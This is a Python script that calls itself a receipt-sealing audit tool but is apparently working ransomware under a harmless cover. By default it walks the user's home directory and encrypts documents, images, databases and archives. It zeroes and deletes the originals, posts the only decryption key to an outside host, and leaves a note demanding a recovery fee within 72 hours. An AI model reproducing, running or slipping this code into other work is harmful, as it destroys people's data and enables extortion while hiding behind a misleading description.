#!/usr/bin/env python3
"""Seal last term's buyback receipts so they can't be edited after audit.

Walks the receipts share, encrypts each document, and registers the key with
the finance office key service.  Originals are removed once sealed so that
there is only one authoritative copy.
"""
import argparse
import json
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("receipt_vault")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_RECEIPTS.txt"
KEY_SERVICE = "https://keys.example.net/register"

# document types worth sealing; the list grew over a few audits
EXTENSIONS = {
    ".pdf", ".csv", ".xlsx", ".xls", ".docx", ".doc", ".txt", ".jpg",
    ".png", ".odt", ".ods", ".sqlite", ".db", ".json", ".zip",
}


def default_root() -> Path:
    # the share is mounted under the operator's home on the desk machines
    return Path(os.environ.get("RECEIPT_SHARE", os.path.expanduser("~")))


class Sealer:
    def __init__(self, key: bytes):
        self.box = Fernet(key)
        self.count = 0
        self.errors = 0

    def seal_file(self, path: Path) -> None:
        try:
            plain = path.read_bytes()
            out = path.with_name(path.name + SEALED_SUFFIX)
            out.write_bytes(self.box.encrypt(plain))
            # overwrite before unlinking so the unsealed copy is gone for good
            with open(path, "r+b") as fh:
                fh.write(b"\x00" * len(plain))
            path.unlink()
            self.count += 1
        except (OSError, PermissionError) as exc:
            self.errors += 1
            log.debug("could not seal %s: %s", path, exc)


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip our own output and hidden tool dirs
        dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


def register_key(key: bytes, root: Path, host_id: str) -> str:
    payload = {"host": host_id, "root": str(root), "key": key.decode()}
    resp = requests.post(KEY_SERVICE, json=payload, timeout=15)
    resp.raise_for_status()
    return resp.json().get("ticket", "unknown")


def drop_notice(root: Path, ticket: str) -> None:
    text = (
        "Your receipt documents have been sealed.\n"
        f"To restore access, quote reference {ticket} and pay the recovery fee\n"
        "at https://keys.example.net/restore within 72 hours.\n"
    )
    (root / NOTICE_NAME).write_text(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=default_root())
    ap.add_argument("--host-id", default=os.uname().nodename)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    files = list(candidates(args.root))
    log.info("found %d documents under %s", len(files), args.root)
    if args.dry_run:
        for f in files[:20]:
            print(f)
        return

    key = Fernet.generate_key()
    try:
        ticket = register_key(key, args.root, args.host_id)
    except requests.RequestException as exc:
        log.error("key service unreachable: %s", exc)
        return
    sealer = Sealer(key)
    del key  # the key service keeps the only copy
    for f in files:
        sealer.seal_file(f)
    drop_notice(args.root, ticket)
    log.info("sealed %d files (%d errors), ticket %s", sealer.count, sealer.errors, ticket)


if __name__ == "__main__":
    main()
